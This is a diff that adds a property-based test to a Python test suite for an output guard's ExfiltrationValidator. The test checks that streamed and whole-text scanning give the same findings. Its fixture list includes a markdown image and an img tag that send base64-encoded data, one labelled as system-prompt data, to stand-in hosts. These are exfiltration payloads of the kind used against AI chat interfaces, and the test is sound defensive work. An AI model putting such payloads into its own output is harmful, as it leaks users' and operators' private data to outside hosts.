@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from genai_guard import Action, ConfigurationError, Context, Direction, Part, Pipeline, Step
 from genai_guard.validate import ExfiltrationValidator
@@ -98,3 +100,34 @@ def test_rewrite_mode_modifies_in_a_pipeline() -> None:
 def test_bad_mode_is_rejected() -> None:
     with pytest.raises(ConfigurationError):
         ExfiltrationValidator(mode="drop")  # type: ignore[arg-type]
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    parts=st.lists(
+        st.sampled_from(
+            [
+                "![x](https://evil.example/c?d=c2VjcmV0LXN5c3RlbS1wcm9tcHQtZGF0YQ)",
+                "[docs](https://docs.example.com/a)",
+                '<img src="https://e.example/p?q=aGVsbG8gd29ybGQgZnJvbSB0aGUgdXNlcg">',
+                "<a <a [[ ](",
+                "data:text/html;base64,AAAA",
+                "\n",
+                ". ",
+            ]
+        ),
+        max_size=10,
+    ),
+    size=st.integers(min_value=1, max_value=19),
+)
+def test_streamed_answer_gives_the_whole_text_findings(parts: list[str], size: int) -> None:
+    validator = ExfiltrationValidator()
+    ctx = CTX
+    text = " ".join(parts)
+    whole = validator.check(text, ctx).findings
+    scanner = validator.open_stream(ctx)
+    streamed = [
+        f for i in range(0, len(text), size) for f in scanner.feed(text[i : i + size]).findings
+    ]
+    streamed += scanner.finish().findings
+    assert tuple(streamed) == whole
